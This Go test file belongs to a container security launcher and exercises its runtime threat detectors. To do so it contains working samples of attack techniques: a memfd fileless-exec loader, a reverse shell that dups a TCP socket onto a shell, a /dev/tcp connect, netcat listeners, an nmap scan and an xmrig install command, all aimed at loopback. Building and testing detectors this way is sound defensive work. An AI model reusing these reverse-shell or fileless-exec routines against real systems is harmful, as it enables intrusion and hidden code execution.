//go:build linux && (amd64 || arm64)

package launcher

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/taskguard/taskguard/console/api"
	"github.com/taskguard/taskguard/console/policy"
	"github.com/taskguard/taskguard/internal/testenv"
)

// TestMain turns the test binary into the detectors' helper program when
// TASKGUARD_DETECT_HELPER names a mode, so the tests need no build step.
func TestMain(m *testing.M) {
	if mode := os.Getenv("TASKGUARD_DETECT_HELPER"); mode != "" && len(os.Args) > 1 {
		os.Exit(helperMain(mode, os.Args[1:]))
	}
	os.Exit(m.Run())
}

func helperMain(mode string, args []string) int {
	env := []string{"PATH=/usr/bin:/bin"}
	switch mode {
	case "memfd", "procfd": // memfd_create + execveat(fd, "", AT_EMPTY_PATH) (or execve of /proc/self/fd/N) of a copy of args[0]
		b, err := os.ReadFile(args[0])
		if err != nil {
			fmt.Println("read:", err)
			return 2
		}
		fd, err := unix.MemfdCreate("payload", 0)
		if err != nil {
			fmt.Println("memfd_create:", err)
			return 2
		}
		if _, err := unix.Write(fd, b); err != nil {
			fmt.Println("write:", err)
			return 2
		}
		if mode == "procfd" { // execve("/proc/self/fd/N"), what a shell one-liner does
			err = syscall.Exec("/proc/self/fd/"+strconv.Itoa(fd), args, env)
		} else {
			err = execveat(fd, "", args, env, unix.AT_EMPTY_PATH)
		}
		fmt.Println("exec failed:", err)
		return 3
	case "revshell": // connect to args[0], the socket onto 0/1/2, exec args[1:]
		c, err := net.Dial("tcp", args[0])
		if err != nil {
			fmt.Println("dial:", err)
			return 2
		}
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			fmt.Println("file:", err)
			return 2
		}
		for fd := range 3 {
			if err := unix.Dup3(int(f.Fd()), fd, 0); err != nil {
				fmt.Println("dup3:", err)
				return 2
			}
		}
		err = syscall.Exec(args[1], args[1:], env)
		fmt.Fprintln(os.Stderr, "exec failed:", err)
		return 3
	case "stratum": // connect to args[0] and send args[2] with write or send (args[1]) from the same thread
		return stratumClient(args[0], args[1], args[2])
	case "inject": // ptrace-seize or read the memory of process args[0] (args[1]: seize, read)
		return injectClient(args[0], args[1])
	case "dns": // one UDP DNS query for args[0] to 127.0.0.1:53 with sendto
		pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
		if err != nil {
			fmt.Println("listen:", err)
			return 2
		}
		defer pc.Close()
		if _, err := pc.WriteTo(dnsQuery(args[0]), &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 53}); err != nil {
			fmt.Println("sendto failed:", err)
			return 3
		}
		fmt.Println("sent")
		return 0
	}
	fmt.Println("unknown helper mode", mode)
	return 2
}

func execveat(fd int, path string, argv, env []string, flags int) error {
	p, err := syscall.BytePtrFromString(path)
	if err != nil {
		return err
	}
	av, err := syscall.SlicePtrFromStrings(argv)
	if err != nil {
		return err
	}
	ev, err := syscall.SlicePtrFromStrings(env)
	if err != nil {
		return err
	}
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(p)), uintptr(unsafe.Pointer(&av[0])), uintptr(unsafe.Pointer(&ev[0])), uintptr(flags), 0)
	return errno
}

func dnsQuery(name string) []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for l := range strings.SplitSeq(name, ".") {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// auditSink collects the audits of a launch.
type auditSink struct {
	mu sync.Mutex
	a  []api.Audit
}

func (s *auditSink) Send(_ context.Context, as []api.Audit) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.a = append(s.a, as...)
	return nil
}

type launchResult struct {
	code   int
	out    string
	audits []api.Audit
}

// threats returns the threat audits of detector id.
func (r launchResult) threats(id string) []api.Audit {
	var out []api.Audit
	for _, a := range r.audits {
		if a.Kind == api.AuditThreat && a.Detector == id {
			out = append(out, a)
		}
	}
	return out
}

// launchDetect runs argv under the launcher (standalone, ptrace) with a rule
// whose detectors section is det and returns its status, output and audits.
func launchDetect(t *testing.T, det map[string]policy.Effect, argv []string, env ...string) launchResult {
	t.Helper()
	testenv.RequireRoot(t)
	dir := t.TempDir()
	pol := policy.Policy{Revision: 1, Runtime: []policy.RuntimeRule{{Name: "detect-rule", Scope: policy.Scope{Containers: []string{"c"}}, Detectors: det}}}
	b, _ := json.Marshal(pol)
	pf := filepath.Join(dir, "policy.json")
	if err := os.WriteFile(pf, b, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := os.Create(filepath.Join(dir, "out"))
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	sink := &auditSink{}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	st, err := Run(ctx, argv, append([]string{"PATH=/usr/bin:/bin"}, env...), Options{
		Identity: policy.Identity{Container: "c"}, PolicyFile: pf, Audits: sink, Supervisor: supervisorMode,
		Files: [3]*os.File{nil, out, out}, Log: slogDiscard(),
	})
	if err != nil {
		t.Fatalf("launch %v: %v", argv, err)
	}
	o, _ := os.ReadFile(out.Name())
	sink.mu.Lock()
	defer sink.mu.Unlock()
	return launchResult{code: st.ExitCode(), out: string(o), audits: sink.a}
}

// supervisorMode is the mechanism launchDetect uses (Options.Supervisor).
var supervisorMode = "ptrace"

// bothMechanisms runs f under ptrace and under seccomp user notification.
func bothMechanisms(t *testing.T, f func(t *testing.T)) {
	for _, m := range []string{"ptrace", "usernotif"} {
		t.Run(m, func(t *testing.T) {
			supervisorMode = m
			defer func() { supervisorMode = "ptrace" }()
			f(t)
		})
	}
}

func helperEnv(mode string) string { return "TASKGUARD_DETECT_HELPER=" + mode }

func self(t *testing.T) string {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return exe
}

// checkThreat asserts one audit of detector id with the effect, the rule, a
// technique, a process tree, and words that match what happened.
func checkThreat(t *testing.T, r launchResult, id string, eff policy.Effect, msgPart string) api.Audit {
	t.Helper()
	as := r.threats(id)
	if len(as) == 0 {
		t.Fatalf("no %s audit; audits %+v; output %q", id, r.audits, r.out)
	}
	a := as[0]
	if a.Effect != eff || a.Rule != "detect-rule" || a.Technique == "" || a.Process == nil || len(a.Process.Tree) == 0 {
		t.Errorf("%s audit %+v: want effect %s, rule detect-rule, a technique and a process tree", id, a, eff)
	}
	if !strings.Contains(a.Message, msgPart) {
		t.Errorf("%s audit message %q lacks %q", id, a.Message, msgPart)
	}
	want := " (alert only)"
	if eff == policy.EffectPrevent {
		want = "; blocked by detector " + id
	}
	if !strings.HasSuffix(a.Message, want) {
		t.Errorf("%s audit message %q does not end with %q", id, a.Message, want)
	}
	return a
}

func TestDetectFilelessMemfd(t *testing.T) {
	bothMechanisms(t, func(t *testing.T) {
		h := self(t)
		for _, eff := range []policy.Effect{policy.EffectPrevent, policy.EffectAlert} {
			t.Run(string(eff), func(t *testing.T) {
				r := launchDetect(t, map[string]policy.Effect{"fileless-exec": eff, "tempdir-exec": policy.EffectOff},
					[]string{h, "/bin/echo", "memfd-ran"}, helperEnv("memfd"))
				a := checkThreat(t, r, "fileless-exec", eff, "/memfd:payload")
				if a.Technique != "T1620" {
					t.Errorf("technique %q", a.Technique)
				}
				if eff == policy.EffectPrevent {
					if r.code != 3 || !strings.Contains(r.out, "exec failed: operation not permitted") || strings.Contains(r.out, "memfd-ran") {
						t.Errorf("prevent: exit %d, output %q; want the exec refused with EPERM", r.code, r.out)
					}
				} else if r.code != 0 || !strings.Contains(r.out, "memfd-ran") {
					t.Errorf("alert: exit %d, output %q; want the memfd program to run", r.code, r.out)
				}
				if tr := a.Process.Tree[0]; tr.PID != a.Process.PID || len(tr.Argv) == 0 || tr.Argv[0] != h {
					t.Errorf("tree[0] = %+v, want the helper %s with its argv", tr, h)
				}
			})
		}
		t.Run("proc self fd", func(t *testing.T) {
			r := launchDetect(t, map[string]policy.Effect{"fileless-exec": policy.EffectPrevent, "tempdir-exec": policy.EffectOff},
				[]string{h, "/bin/echo", "memfd-ran"}, helperEnv("procfd"))
			a := checkThreat(t, r, "fileless-exec", policy.EffectPrevent, "/memfd:payload")
			if r.code != 3 || !strings.Contains(r.out, "exec failed: operation not permitted") || strings.Contains(r.out, "memfd-ran") {
				t.Errorf("prevent: exit %d, output %q; want the exec refused with EPERM", r.code, r.out)
			}
			if !strings.Contains(a.Message, "called as /proc/self/fd/") {
				t.Errorf("message %q does not name the /proc link", a.Message)
			}
		})
		t.Run("benign", func(t *testing.T) {
			r := launchDetect(t, nil, []string{"/bin/sh", "-c", "/bin/echo image-binary-ran"})
			if r.code != 0 || !strings.Contains(r.out, "image-binary-ran") || len(r.threats("fileless-exec")) != 0 || len(r.threats("tempdir-exec")) != 0 {
				t.Errorf("an image binary: exit %d, output %q, audits %+v", r.code, r.out, r.audits)
			}
		})
	})
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o755); err != nil {
		t.Fatal(err)
	}
}

func sha256File(t *testing.T, p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestDetectTempDirExec(t *testing.T) {
	dir := t.TempDir() // under /tmp
	payload := filepath.Join(dir, "payload")
	copyFile(t, "/bin/true", payload)
	shm, err := os.MkdirTemp("/dev/shm", "detect")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(shm)
	shmPayload := filepath.Join(shm, "payload")
	copyFile(t, "/bin/true", shmPayload)
	script := fmt.Sprintf("%s; echo tmp=$?; %s; echo shm=$?; /bin/true; echo image=$?", payload, shmPayload)
	r := launchDetect(t, map[string]policy.Effect{"tempdir-exec": policy.EffectPrevent}, []string{"/bin/sh", "-c", script})
	if !strings.Contains(r.out, "tmp=126") || !strings.Contains(r.out, "shm=126") || !strings.Contains(r.out, "image=0") {
		t.Errorf("output %q: want both temp-dir execs refused and /bin/true run", r.out)
	}
	as := r.threats("tempdir-exec")
	if len(as) != 2 {
		t.Fatalf("%d tempdir-exec audits, want 2: %+v", len(as), as)
	}
	checkThreat(t, r, "tempdir-exec", policy.EffectPrevent, "temporary directory /tmp: "+payload)
	if as[1].Process.Path != shmPayload || !strings.Contains(as[1].Message, "/dev/shm") {
		t.Errorf("second audit %+v, want %s", as[1], shmPayload)
	}
	if want := sha256File(t, "/bin/true"); as[0].Process.SHA256 != want {
		t.Errorf("sha256 %q, want %q", as[0].Process.SHA256, want)
	}
}

func TestDetectDrift(t *testing.T) {
	bothMechanisms(t, func(t *testing.T) {
		dir := t.TempDir()
		old := filepath.Join(dir, "old")
		copyFile(t, "/bin/true", old) // before the container starts: part of the "image"
		fresh := filepath.Join(dir, "fresh")
		script := fmt.Sprintf("cp /bin/true %s && %s; echo fresh=$?; %s; echo old=$?; /bin/true; echo image=$?", fresh, fresh, old)
		for _, eff := range []policy.Effect{policy.EffectPrevent, policy.EffectAlert} {
			t.Run(string(eff), func(t *testing.T) {
				_ = os.Remove(fresh)
				r := launchDetect(t, map[string]policy.Effect{"drift": eff, "tempdir-exec": policy.EffectOff}, []string{"/bin/sh", "-c", script})
				want := "fresh=126"
				if eff == policy.EffectAlert {
					want = "fresh=0"
				}
				if !strings.Contains(r.out, want) || !strings.Contains(r.out, "old=0") || !strings.Contains(r.out, "image=0") {
					t.Errorf("output %q: want %s, old=0, image=0", r.out, want)
				}
				as := r.threats("drift")
				if len(as) != 1 {
					t.Fatalf("%d drift audits, want 1 (the file written after start only): %+v", len(as), as)
				}
				a := checkThreat(t, r, "drift", eff, fresh+" was written or changed after the container started")
				if a.Process.SHA256 != sha256File(t, "/bin/true") {
					t.Errorf("sha256 %q", a.Process.SHA256)
				}
			})
		}
	})
}

// revListener accepts one connection, sends the commands and returns what
// came back until EOF.
func revListener(t *testing.T) (addr string, got <-chan string) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ch := make(chan string, 1)
	go func() {
		defer ln.Close()
		c, err := ln.Accept()
		if err != nil {
			ch <- "accept: " + err.Error()
			return
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(30 * time.Second))
		_, _ = io.WriteString(c, "echo pwned-$((6*7))\nexit\n")
		b, _ := io.ReadAll(c)
		ch <- string(b)
	}()
	return ln.Addr().String(), ch
}

// TestDetectReverseShell: a real reverse shell over loopback, and its benign twin.
func TestDetectReverseShell(t *testing.T) {
	bothMechanisms(t, func(t *testing.T) {
		h := self(t)
		for _, eff := range []policy.Effect{policy.EffectPrevent, policy.EffectAlert} {
			t.Run(string(eff), func(t *testing.T) {
				addr, got := revListener(t)
				r := launchDetect(t, map[string]policy.Effect{"reverse-shell": eff, "tempdir-exec": policy.EffectOff, "crypto-miner": policy.EffectOff},
					[]string{h, addr, "/bin/sh", "-i"}, helperEnv("revshell"))
				out := <-got
				a := checkThreat(t, r, "reverse-shell", eff, "tcp peer "+addr)
				if a.Technique != "T1059.004" {
					t.Errorf("technique %q", a.Technique)
				}
				if eff == policy.EffectPrevent {
					if strings.Contains(out, "pwned-42") || r.code != 3 || !strings.Contains(out, "exec failed: operation not permitted") {
						t.Errorf("prevent: the shell ran: exit %d, listener got %q", r.code, out)
					}
				} else if !strings.Contains(out, "pwned-42") {
					t.Errorf("alert: listener got %q, want the shell's answer", out)
				}
			})
		}
		t.Run("benign pipe", func(t *testing.T) {
			r := launchDetect(t, nil, []string{"/bin/sh", "-c", "echo 'echo piped-$((6*7))' | /bin/sh"})
			if !strings.Contains(r.out, "piped-42") || len(r.threats("reverse-shell")) != 0 {
				t.Errorf("a shell fed by a pipe: output %q, audits %+v", r.out, r.audits)
			}
		})
	})
}

func TestDetectMiner(t *testing.T) {
	bothMechanisms(t, func(t *testing.T) {
		h := self(t)
		dir := t.TempDir()
		xmrig := filepath.Join(dir, "xmrig")
		copyFile(t, "/bin/true", xmrig)
		bash := testenv.LookPath(t, "bash", "bash")
		det := map[string]policy.Effect{"crypto-miner": policy.EffectPrevent, "tempdir-exec": policy.EffectOff}
		t.Run("binary", func(t *testing.T) {
			r := launchDetect(t, det, []string{"/bin/sh", "-c", xmrig + "; echo rc=$?"})
			if !strings.Contains(r.out, "rc=126") {
				t.Errorf("output %q: xmrig ran", r.out)
			}
			checkThreat(t, r, "crypto-miner", policy.EffectPrevent, "Crypto miner xmrig started")
		})
		t.Run("pool port", func(t *testing.T) {
			r := launchDetect(t, det, []string{bash, "-c", "echo > /dev/tcp/127.0.0.1/3333; echo rc=$?"})
			if !strings.Contains(r.out, "Operation not permitted") || !strings.Contains(r.out, "rc=1") {
				t.Errorf("output %q: want the connect refused with EPERM", r.out)
			}
			a := checkThreat(t, r, "crypto-miner", policy.EffectPrevent, "mining pool port 127.0.0.1:3333")
			if a.Network == nil || a.Network.Port != 3333 {
				t.Errorf("network detail %+v", a.Network)
			}
		})
		t.Run("pool port benign", func(t *testing.T) {
			ln, err := net.Listen("tcp4", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			go func() {
				if c, err := ln.Accept(); err == nil {
					c.Close()
				}
			}()
			_, port, _ := net.SplitHostPort(ln.Addr().String())
			r := launchDetect(t, det, []string{bash, "-c", "echo > /dev/tcp/127.0.0.1/" + port + "; echo rc=$?"})
			if !strings.Contains(r.out, "rc=0") || len(r.threats("crypto-miner")) != 0 {
				t.Errorf("a connect to port %s: output %q, audits %+v", port, r.out, r.audits)
			}
		})
		t.Run("pool domain", func(t *testing.T) {
			r := launchDetect(t, det, []string{h, "xmr-eu1.nanopool.org"}, helperEnv("dns"))
			if r.code != 3 || !strings.Contains(r.out, "sendto failed") {
				t.Errorf("exit %d, output %q: want the query refused", r.code, r.out)
			}
			a := checkThreat(t, r, "crypto-miner", policy.EffectPrevent, "DNS resolution of mining pool xmr-eu1.nanopool.org")
			if a.Network == nil || a.Network.Domain != "xmr-eu1.nanopool.org" {
				t.Errorf("network detail %+v", a.Network)
			}
			r = launchDetect(t, det, []string{h, "www.example.org"}, helperEnv("dns"))
			if r.code != 0 || len(r.threats("crypto-miner")) != 0 {
				t.Errorf("benign name: exit %d, output %q, audits %+v", r.code, r.out, r.audits)
			}
		})
	})
}

func TestDetectTools(t *testing.T) {
	dir := t.TempDir()
	nmap := filepath.Join(dir, "nmap")
	copyFile(t, "/bin/true", nmap)
	nc := filepath.Join(dir, "nc")
	if err := os.Symlink(testenv.LookPath(t, "busybox", "busybox"), nc); err != nil {
		t.Fatal(err)
	}
	aptGet := testenv.LookPath(t, "apt-get", "apt")
	tests := []struct {
		name, script, id, msg string
	}{
		{"nmap", nmap + " -sS 127.0.0.1; echo rc=$?", "network-scanner", "Network scanner nmap started"},
		{"netcat listener", nc + " -l -p 0; echo rc=$?", "netcat-listener", "nc started as a listener: " + nc + " -l -p 0"},
		{"apt-get", aptGet + " install -y xmrig; echo rc=$?", "package-manager", "Package manager apt-get run at runtime: " + aptGet + " install -y xmrig"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := launchDetect(t, map[string]policy.Effect{tt.id: policy.EffectPrevent, "tempdir-exec": policy.EffectOff}, []string{"/bin/sh", "-c", tt.script})
			if !strings.Contains(r.out, "rc=126") {
				t.Errorf("output %q: want the exec refused", r.out)
			}
			checkThreat(t, r, tt.id, policy.EffectPrevent, tt.msg)
		})
	}
	t.Run("benign twins", func(t *testing.T) {
		r := launchDetect(t, map[string]policy.Effect{"tempdir-exec": policy.EffectOff},
			[]string{"/bin/sh", "-c", nc + " 127.0.0.1 1 </dev/null; dpkg-query -W dpkg >/dev/null; echo dpkg-query=$?"})
		if !strings.Contains(r.out, "dpkg-query=0") {
			t.Errorf("output %q", r.out)
		}
		for _, a := range r.audits {
			if a.Kind == api.AuditThreat {
				t.Errorf("benign commands raised %+v", a)
			}
		}
	})
}

// The launched program itself (the task's command) is exempt from the
// file-location detectors once: its re-exec from /tmp is not.
func TestDetectEntrypointExemptOnce(t *testing.T) {
	script := filepath.Join(t.TempDir(), "entry.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\n[ \"$1\" = again ] && { echo second-run; exit 0; }\nexec \"$0\" again\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	r := launchDetect(t, nil, []string{script})
	if r.code != 0 || !strings.Contains(r.out, "second-run") {
		t.Fatalf("exit %d, output %q", r.code, r.out)
	}
	if as := r.threats("tempdir-exec"); len(as) != 1 || as[0].Process.Argv[1] != "again" {
		t.Errorf("tempdir-exec audits %+v, want one, for the re-exec only", as)
	}
}

// In alert mode a netcat listener is reported twice: at its exec (the
// listen option) and at its listen stop (the port).
func TestDetectNetcatListenStop(t *testing.T) {
	nc := filepath.Join(t.TempDir(), "nc")
	if err := os.Symlink(testenv.LookPath(t, "busybox", "busybox"), nc); err != nil {
		t.Fatal(err)
	}
	port := strconv.Itoa(int(testenv.FreePort(t)))
	addr := net.JoinHostPort("127.0.0.1", port)
	connected := make(chan error, 1)
	go func() {
		deadline := time.Now().Add(30 * time.Second)
		for time.Now().Before(deadline) {
			c, err := net.DialTimeout("tcp4", addr, time.Second)
			if err == nil {
				_, err = io.WriteString(c, "hello-listener\n")
				c.Close()
				connected <- err
				return
			}
			runtimeGosched()
		}
		connected <- fmt.Errorf("nc never listened on %s", addr)
	}()
	r := launchDetect(t, map[string]policy.Effect{"tempdir-exec": policy.EffectOff}, []string{"/bin/sh", "-c", nc + " -l -p " + port})
	if err := <-connected; err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(r.out, "hello-listener") {
		t.Errorf("nc output %q: the listener did not run", r.out)
	}
	as := r.threats("netcat-listener")
	if len(as) != 2 || !strings.Contains(as[1].Message, "nc listens on tcp port "+port) || as[1].Network == nil || as[1].Network.Direction != "listen" {
		t.Errorf("netcat-listener audits %+v, want the exec and the listen on port %s", as, port)
	}
}

func runtimeGosched() { runtime.Gosched() }
